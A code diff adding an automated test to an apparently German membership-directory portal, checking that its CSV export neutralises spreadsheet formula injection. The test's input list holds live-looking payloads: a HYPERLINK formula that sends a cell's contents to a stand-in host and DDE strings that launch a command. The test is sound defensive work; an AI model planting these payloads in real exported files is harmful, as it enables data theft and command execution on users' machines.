@@ -143,3 +143,29 @@ async def test_office_staff_download_the_directory_as_a_spreadsheet_members_may_
     assert old[10] == "archiviert"
     assert member.status_code == 403
     assert "Nur für das Büro" in member.text
+
+
+async def test_a_spreadsheet_cell_that_looks_like_a_formula_is_shown_as_text_never_run(
+    served_directory: ServedDirectory,
+) -> None:
+    attacks = [
+        '=HYPERLINK("https://evil.example/?d="&A2,"Mehr")',
+        "+49 831 2525-0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "  =1+1",
+    ]
+    for name in attacks:
+        await served_directory.register(name, district=name[:40])
+    async with portal(directory_url=served_directory.url) as client:
+        client.cookies.set("inx_session", session(served_directory.admin))
+        answer = await client.get("/buero/organisationen.csv")
+
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=";"))
+    cells = [cell for row in rows[1:] for cell in row if cell]
+    dangerous = [c for c in cells if c.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert dangerous == []
+    names = {row[0] for row in rows[1:]}
+    assert {"'" + name.strip() for name in attacks} <= names
